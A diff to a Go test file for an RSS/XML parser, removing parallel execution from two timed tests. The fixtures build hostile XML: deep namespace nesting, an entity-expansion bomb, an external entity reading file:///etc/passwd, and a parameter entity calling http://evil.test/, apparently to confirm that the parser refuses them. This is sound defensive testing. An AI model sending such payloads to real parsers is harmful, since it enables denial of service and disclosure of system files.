@@ -90,8 +90,7 @@ func bomb(n int) []byte {
 	return []byte(`<rss xmlns:m="u"><channel><item>` + strings.Repeat("<m:a>", n) + "</item></channel></rss>")
 }
 
-func TestH21H22WhatWouldHurtAParserIsRefusedAtOnce(t *testing.T) {
-	t.Parallel()
+func TestH21H22WhatWouldHurtAParserIsRefusedAtOnce(t *testing.T) { // alone: it is timed
 	var nested, flat strings.Builder
 	for i := range 8000 {
 		fmt.Fprintf(&nested, `<p%d:a xmlns:p%d="u">`, i, i)
@@ -118,8 +117,7 @@ func TestH21H22WhatWouldHurtAParserIsRefusedAtOnce(t *testing.T) {
 	}
 }
 
-func TestH20EntitiesNeitherGrowNorReadFiles(t *testing.T) {
-	t.Parallel()
+func TestH20EntitiesNeitherGrowNorReadFiles(t *testing.T) { // alone: it is timed
 	var b strings.Builder
 	b.WriteString(`<!DOCTYPE rss [<!ENTITY a "` + strings.Repeat("x", 1000) + `"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY f SYSTEM "file:///etc/passwd"><!ENTITY % p SYSTEM "http://evil.test/">]><rss><channel><item><title>`)
 	b.WriteString("&b;&f;</title><description>" + strings.Repeat("&a;", 500_000))
